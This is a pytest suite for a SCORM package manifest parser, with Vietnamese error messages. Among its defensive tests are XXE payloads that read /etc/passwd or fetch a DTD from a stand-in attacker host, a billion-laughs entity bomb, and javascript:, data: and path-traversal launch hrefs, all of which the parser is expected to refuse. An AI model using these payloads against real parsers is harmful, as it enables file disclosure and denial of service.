"""imsmanifest.xml parsing on hand-written manifests: versions, bases, references, attacks."""

from __future__ import annotations

import time
from datetime import timedelta
from decimal import Decimal

import pytest

from scorm_import import ManifestError, check_files, load_package, parse_manifest

NS_12 = (
    'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" '
    'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"'
)
NS_2004 = (
    'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" '
    'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" '
    'xmlns:adlseq="http://www.adlnet.org/xsd/adlseq_v1p3" '
    'xmlns:imsss="http://www.imsglobal.org/xsd/imsss"'
)
SCO_12 = '<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html"/>'
SCO_2004 = '<resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/>'


def manifest(
    items: str = '<item identifier="i1" identifierref="r1"><title>Một</title></item>',
    resources: str = SCO_12,
    *,
    ns: str = NS_12,
    schemaversion: str | None = "1.2",
    head: str = "",
    attrs: str = "",
    tail: str = "",
) -> bytes:
    version = f"<schemaversion>{schemaversion}</schemaversion>" if schemaversion else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>{head}
<manifest identifier="m" {ns} {attrs}>
  <metadata><schema>ADL SCORM</schema>{version}</metadata>
  <organizations default="o"><organization identifier="o"><title>Khoá học</title>
    {items}
  </organization></organizations>
  <resources>{resources}</resources>{tail}
</manifest>""".encode()


def manifest_2004(items: str, resources: str = SCO_2004, **kwargs: object) -> bytes:
    kwargs.setdefault("schemaversion", "2004 3rd Edition")
    return manifest(items, resources, ns=NS_2004, **kwargs)  # type: ignore[arg-type]


def test_parses_a_minimal_12_manifest_into_a_frozen_package():
    package = parse_manifest(manifest())
    assert package.version == "1.2"
    assert package.identifier == "m"
    assert package.title == "Khoá học"
    assert package.default_organization == "o"
    assert [s.url for s in package.scos()] == ["index.html"]
    assert package.resources["r1"].scorm_type == "sco"
    assert package.warnings == ()
    with pytest.raises(TypeError):
        package.resources["x"] = package.resources["r1"]  # type: ignore[index]
    with pytest.raises(AttributeError):
        package.title = "khác"  # type: ignore[misc]


def test_xxe_external_entity_is_refused():
    xxe = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<manifest identifier="m"><metadata><schemaversion>&xxe;</schemaversion></metadata></manifest>"""
    with pytest.raises(ManifestError, match="XXE"):
        parse_manifest(xxe)


def test_xxe_parameter_entity_is_refused():
    xxe = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<manifest identifier="m"/>"""
    with pytest.raises(ManifestError, match="ENTITY"):
        parse_manifest(xxe)


def test_billion_laughs_is_refused_quickly():
    lol = ['<!ENTITY lol0 "lol">']
    lol += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    bomb = f"""<?xml version="1.0"?><!DOCTYPE manifest [{"".join(lol)}]>
<manifest identifier="m"><metadata><schemaversion>&lol9;</schemaversion></metadata></manifest>"""
    started = time.monotonic()
    with pytest.raises(ManifestError, match="billion laughs"):
        parse_manifest(bomb.encode())
    assert time.monotonic() - started < 1


def test_xxe_manifest_inside_a_zip_is_refused_by_load_package(zips):
    xxe = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><manifest>&xxe;</manifest>"""
    with pytest.raises(ManifestError, match="XXE"):
        load_package(zips.package(manifest=xxe))


def test_harmless_doctype_without_entities_is_accepted():
    data = manifest(head='<!DOCTYPE manifest SYSTEM "imscp.dtd">')
    assert parse_manifest(data).title == "Khoá học"


def test_syntax_error_reports_the_line_in_vietnamese():
    data = b'<?xml version="1.0"?>\n<manifest>\n  <organizations>\n</manifest>\n'
    with pytest.raises(ManifestError) as caught:
        parse_manifest(data)
    assert caught.value.message.startswith(
        "Gói SCORM không hợp lệ: imsmanifest.xml lỗi cú pháp ở dòng 4"
    )
    assert caught.value.where == "imsmanifest.xml:4"


def test_root_element_must_be_manifest():
    with pytest.raises(ManifestError, match=r"là <lom> chứ không phải <manifest>"):
        parse_manifest(b"<lom/>")


@pytest.mark.parametrize(
    ("schemaversion", "expected"),
    [
        ("1.2", "1.2"),
        ("CAM 1.3", "2004-2nd"),
        ("2004 2nd Edition", "2004-2nd"),
        ("2004 3rd Edition", "2004-3rd"),
        ("2004 4th Edition", "2004-4th"),
        ("  2004   4th   edition ", "2004-4th"),
        ("SCORM 2004 3rd Edition", "2004-3rd"),
    ],
)
def test_version_comes_from_schemaversion(schemaversion, expected):
    data = manifest_2004(
        '<item identifier="i1" identifierref="r1"><title>A</title></item>',
        schemaversion=schemaversion,
    )
    package = parse_manifest(data)
    assert package.version == expected
    assert package.warnings == ()


def test_version_falls_back_to_the_12_namespace_without_schemaversion():
    package = parse_manifest(manifest(schemaversion=None))
    assert package.version == "1.2"
    assert package.warnings == (
        "Manifest không khai báo schemaversion; theo namespace, đoán là SCORM 1.2.",
    )


def test_version_falls_back_to_2004_3rd_from_2004_namespaces():
    items = '<item identifier="i1" identifierref="r1"><title>A</title></item>'
    package = parse_manifest(manifest_2004(items, schemaversion="2004"))
    assert package.version == "2004-3rd"
    assert "Không nhận ra schemaversion '2004'" in package.warnings[0]


def test_version_guess_is_4th_edition_when_4th_edition_elements_are_used():
    items = """<item identifier="i1" identifierref="r1"><title>A</title>
      <adlcp:completionThreshold completedByMeasure="true" minProgressMeasure="0.75"/></item>"""
    package = parse_manifest(manifest_2004(items, schemaversion=None))
    assert package.version == "2004-4th"
    item = package.items()[0]
    assert item.completion_threshold == Decimal("0.75")
    assert item.progress_weight == Decimal("1.0")


def test_manifest_without_any_scorm_marker_is_treated_as_12_with_a_warning():
    data = manifest(ns="", schemaversion=None).replace(b"adlcp:scormtype", b"scormtype")
    package = parse_manifest(data)
    assert package.version == "1.2"
    assert "không có dấu hiệu SCORM" in package.warnings[0]
    assert package.scos()[0].resource.scorm_type == "sco"


def test_xml_base_of_manifest_resources_and_resource_are_joined():
    resources = """<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"
        href="page.html" xml:base="unit1"><file href="page.html"/></resource>"""
    data = manifest(resources=resources.replace("<resource ", "<resource ", 1))
    data = data.replace(b"<resources>", b'<resources xml:base="content/">')
    data = data.replace(b'identifier="m"', b'identifier="m" xml:base="course/"')
    package = parse_manifest(data)
    resource = package.resources["r1"]
    assert resource.base == "course/content/unit1/"
    assert resource.files == ("course/content/unit1/page.html",)
    assert package.scos()[0].url == "course/content/unit1/page.html"
    assert package.scos()[0].path == "course/content/unit1/page.html"


@pytest.mark.parametrize(
    ("href", "parameters", "url"),
    [
        ("a.html", "?q=1", "a.html?q=1"),
        ("a.html?x=2", "?q=1", "a.html?x=2&q=1"),
        ("a.html?x=2", "&q=1", "a.html?x=2&q=1"),
        ("a.html#top", "q=1", "a.html?q=1#top"),
        ("a.html", "#part2", "a.html#part2"),
        ("a.html#top", "#part2", "a.html#top"),
        ("a.html", "", "a.html"),
    ],
)
def test_item_parameters_are_joined_to_the_launch_url(href, parameters, url):
    escaped = parameters.replace("&", "&amp;")
    items = (
        f'<item identifier="i1" identifierref="r1" parameters="{escaped}"><title>A</title></item>'
    )
    resources = SCO_12.replace('href="index.html"', f'href="{href.replace("&", "&amp;")}"')
    assert parse_manifest(manifest(items, resources)).scos()[0].url == url


def test_unknown_identifierref_is_fatal_and_every_one_is_listed():
    items = """<item identifier="i1" identifierref="nope"><title>A</title></item>
               <item identifier="i2" identifierref="r1"><title>B</title></item>
               <item identifier="i3" identifierref="gone"><title>C</title></item>"""
    with pytest.raises(ManifestError) as caught:
        parse_manifest(manifest(items))
    assert "2 mục tham chiếu tài nguyên không có" in caught.value.message
    assert len(caught.value.details) == 2
    assert "'nope'" in caught.value.details[0]
    assert "'gone'" in caught.value.details[1]


def test_package_without_any_launchable_item_is_refused():
    items = '<item identifier="i1"><title>Chỉ là thư mục</title></item>'
    with pytest.raises(ManifestError, match="không có mục nào có thể mở"):
        parse_manifest(manifest(items))


def test_resource_without_href_makes_its_item_unlaunchable_with_a_warning():
    items = """<item identifier="i1" identifierref="r1"><title>A</title></item>
               <item identifier="i2" identifierref="r2"><title>B</title></item>"""
    resources = SCO_12 + '<resource identifier="r2" type="webcontent" adlcp:scormtype="asset"/>'
    package = parse_manifest(manifest(items, resources))
    assert [s.identifier for s in package.launchables()] == ["i1"]
    assert "Mục 'B' trỏ tới tài nguyên 'r2' không có href" in package.warnings[0]


@pytest.mark.parametrize("href", ["javascript:alert(1)", "data:text/html,x", "../../etc/passwd"])
def test_launch_href_outside_the_package_or_scripted_is_refused(href):
    resources = SCO_12.replace('href="index.html"', f'href="{href}"')
    with pytest.raises(ManifestError, match="đường dẫn khởi chạy"):
        parse_manifest(manifest(resources=resources))


def test_external_http_launch_is_allowed_with_a_warning_and_no_file_check():
    resources = SCO_12.replace('href="index.html"', 'href="https://example.org/sco.html"')
    package = parse_manifest(manifest(resources=resources))
    target = package.scos()[0]
    assert (target.url, target.path) == ("https://example.org/sco.html", None)
    assert any("bên ngoài gói" in w for w in package.warnings)
    assert check_files(package, []) == ()


def test_unknown_elements_duplicates_and_bad_default_are_warnings():
    items = """<item identifier="i1" identifierref="r1"><title>A</title><adlcp:foo>1</adlcp:foo>
               <vendor:x xmlns:vendor="urn:vendor">ignored</vendor:x></item>"""
    data = manifest(items, SCO_12 + SCO_12).replace(b'default="o"', b'default="missing"')
    package = parse_manifest(data)
    assert package.default_organization == "o"
    assert package.warnings == (
        "Tài nguyên 'r1' khai báo hai lần (dòng 8); dùng khai báo đầu tiên.",
        "Phần tử không xác định <foo> trong mục 'i1' (dòng 5); bỏ qua.",
        "organizations@default = 'missing' không tồn tại; dùng organization đầu tiên.",
    )


def test_missing_scormtype_counts_as_asset_with_a_warning():
    resources = '<resource identifier="r1" type="webcontent" href="index.html"/>'
    package = parse_manifest(manifest(resources=resources))
    assert package.scos() == []
    assert [t.identifier for t in package.launchables()] == ["i1"]
    assert "coi là asset" in package.warnings[0]


def test_items_nested_too_deeply_are_refused():
    items = '<item identifier="x"><title>x</title>' * 70 + "</item>" * 70
    items += '<item identifier="i1" identifierref="r1"><title>A</title></item>'
    with pytest.raises(ManifestError, match="lồng sâu hơn 64 cấp"):
        parse_manifest(manifest(items))


def test_sub_manifest_content_is_grafted_where_an_item_references_it():
    items = '<item identifier="i0" identifierref="sub1"><title>Phần con</title></item>'
    sub = """<manifest identifier="sub1" xml:base="sub/">
      <organizations default="so"><organization identifier="so"><title>S</title>
        <item identifier="si" identifierref="sr"><title>Bài con</title></item>
      </organization></organizations>
      <resources><resource identifier="sr" type="webcontent" adlcp:scormtype="sco"
        href="p.html"/></resources></manifest>"""
    package = parse_manifest(manifest(items, tail=sub))
    assert [i.identifier for i in package.items()] == ["i0", "si"]
    assert [(s.identifier, s.url) for s in package.scos()] == [("si", "sub/p.html")]
    assert any("manifest con 'sub1'" in w for w in package.warnings)


def test_12_item_limits_are_parsed():
    items = """<item identifier="i1" identifierref="r1" isvisible="false"><title>A</title>
        <adlcp:masteryscore>75.5</adlcp:masteryscore>
        <adlcp:maxtimeallowed>PT45M</adlcp:maxtimeallowed>
        <adlcp:timelimitaction>Continue, No Message</adlcp:timelimitaction>
        <adlcp:datafromlms>cấp độ=2</adlcp:datafromlms>
        <adlcp:prerequisites type="aicc_script">i0</adlcp:prerequisites></item>"""
    item = parse_manifest(manifest(items)).items()[0]
    assert item.is_visible is False
    assert item.mastery_score == Decimal("75.5")
    assert item.mastery_scaled == Decimal("0.755")
    assert item.max_time_allowed == timedelta(minutes=45)  # ISO form tolerated in 1.2
    assert item.time_limit_action == "continue,no message"
    assert item.data_from_lms == "cấp độ=2"
    assert item.prerequisites == "i0"


def test_12_out_of_range_mastery_score_is_dropped_with_a_warning():
    items = """<item identifier="i1" identifierref="r1"><title>A</title>
        <adlcp:masteryscore>150</adlcp:masteryscore></item>"""
    package = parse_manifest(manifest(items))
    assert package.items()[0].mastery_score is None
    assert "adlcp:masteryscore '150'" in package.warnings[0]


def test_2004_mastery_defaults_to_one_when_satisfied_by_measure_has_no_measure():
    items = """<item identifier="i1" identifierref="r1"><title>A</title>
      <adlcp:completionThreshold>0.6</adlcp:completionThreshold>
      <adlcp:timeLimitAction>exit,message</adlcp:timeLimitAction>
      <imsss:sequencing><imsss:limitConditions attemptLimit="3"
          attemptAbsoluteDurationLimit="PT1H30M"/>
        <imsss:objectives><imsss:primaryObjective satisfiedByMeasure="true"/></imsss:objectives>
      </imsss:sequencing></item>"""
    item = parse_manifest(manifest_2004(items)).items()[0]
    assert item.mastery_score == Decimal("1.0")
    assert item.mastery_scaled == Decimal("1.0")
    assert item.completion_threshold == Decimal("0.6")
    assert item.max_time_allowed == timedelta(hours=1, minutes=30)
    assert item.time_limit_action == "exit,message"
    assert item.sequencing is not None
    assert item.sequencing.attempt_limit == 3


def test_own_sequencing_elements_override_the_shared_collection():
    items = """<item identifier="i1" identifierref="r1"><title>A</title>
      <imsss:sequencing IDRef="shared"><imsss:controlMode flow="false"/></imsss:sequencing></item>
      <item identifier="i2" identifierref="r1"><title>B</title>
      <imsss:sequencing IDRef="missing"/></item>"""
    collection = """<imsss:sequencingCollection><imsss:sequencing ID="shared">
      <imsss:controlMode choice="false" flow="true"/>
      <imsss:deliveryControls tracked="true"/></imsss:sequencing></imsss:sequencingCollection>"""
    package = parse_manifest(manifest_2004(items, tail=collection))
    first, second = (i.sequencing for i in package.items())
    assert first is not None and second is not None
    assert (first.choice, first.flow, first.has_delivery_controls) == (True, False, True)
    assert (second.choice, second.flow, second.id_ref) == (True, False, "missing")
    assert any("IDRef 'missing'" in w for w in package.warnings)


def test_inline_lom_metadata_gives_title_and_description():
    lom = """<lom xmlns="http://ltsc.ieee.org/xsd/LOM"><general>
      <title><string language="vi">Toán lớp 6</string></title>
      <description><string language="vi">Phân số</string></description>
      <keyword><string>toán</string></keyword><language>vi</language></general></lom>"""
    data = manifest().replace(b"</metadata>", lom.encode() + b"</metadata>")
    package = parse_manifest(data)
    assert package.metadata_title == "Toán lớp 6"
    assert package.metadata_description == "Phân số"
    assert package.metadata is not None
    assert (package.metadata.keywords, package.metadata.language) == (("toán",), "vi")


def test_missing_or_broken_external_metadata_is_only_a_warning(zips):
    data = manifest().replace(
        b"</metadata>", b"<adlcp:location>meta.xml</adlcp:location></metadata>"
    )
    package = load_package(zips.package(manifest=data))
    assert package.metadata is not None and package.metadata.location == "meta.xml"
    assert "Không tìm thấy tệp metadata 'meta.xml'" in package.warnings[0]
    broken = load_package(zips.package(("meta.xml", b"<lom><general>"), manifest=data))
    assert "Tệp metadata 'meta.xml' không đọc được" in broken.warnings[0]


def test_missing_launch_files_are_fatal_and_listed_with_a_case_hint(zips):
    items = """<item identifier="i1" identifierref="r1"><title>A</title></item>
               <item identifier="i2" identifierref="r2"><title>B</title></item>"""
    resources = SCO_12.replace("index.html", "Index.HTML") + SCO_12.replace(
        'identifier="r1"', 'identifier="r2"'
    ).replace("index.html", "gone/page.html")
    with pytest.raises(ManifestError) as caught:
        load_package(zips.package(manifest=manifest(items, resources)))
    assert "thiếu 2 tệp khởi chạy" in caught.value.message
    assert caught.value.details == (
        "Mục 'A': thiếu tệp 'Index.HTML' (có tệp 'index.html' khác chữ hoa/thường).",
        "Mục 'B': thiếu tệp 'gone/page.html'.",
    )


def test_missing_declared_files_and_unknown_dependencies_are_warnings(zips):
    resources = """<resource identifier="r1" type="webcontent" adlcp:scormtype="sco"
      href="index.html"><file href="index.html"/><file href="img/a.png"/>
      <dependency identifierref="nowhere"/></resource>"""
    package = load_package(zips.package(manifest=manifest(resources=resources)))
    assert package.warnings == (
        "1 tệp khai báo trong manifest không có trong gói: img/a.png",
        "Tài nguyên 'r1' phụ thuộc vào tài nguyên không tồn tại: nowhere.",
    )


def test_percent_encoded_href_matches_a_member_with_spaces(zips):
    resources = SCO_12.replace("index.html", "bài%201.html")
    package = load_package(
        zips.package(("bài 1.html", b"x"), manifest=manifest(resources=resources))
    )
    target = package.scos()[0]
    assert (target.url, target.path) == ("bài%201.html", "bài 1.html")


def test_launch_files_of_other_organizations_are_checked_too(zips):
    second_org = """</organization><organization identifier="o2"><title>Khác</title>
      <item identifier="j1" identifierref="r2"><title>Bài khác</title></item>"""
    resources = SCO_12 + SCO_12.replace('"r1"', '"r2"').replace("index.html", "other.html")
    items = '<item identifier="i1" identifierref="r1"><title>A</title></item>' + second_org
    with pytest.raises(ManifestError) as caught:
        load_package(zips.package(manifest=manifest(items, resources)))
    assert caught.value.details == ("Mục 'Bài khác': thiếu tệp 'other.html'.",)


def test_package_title_falls_back_to_lom_title_when_the_organization_has_none():
    lom = "<lom><general><title><langstring>Tiếng Việt 3</langstring></title></general></lom>"
    lom_bytes = lom.encode()
    data = manifest().replace("<title>Khoá học</title>".encode(), b"")
    data = data.replace(b"</metadata>", lom_bytes + b"</metadata>")
    assert parse_manifest(data).title == "Tiếng Việt 3"
    assert parse_manifest(manifest().replace("<title>Khoá học</title>".encode(), b"")).title == "o"
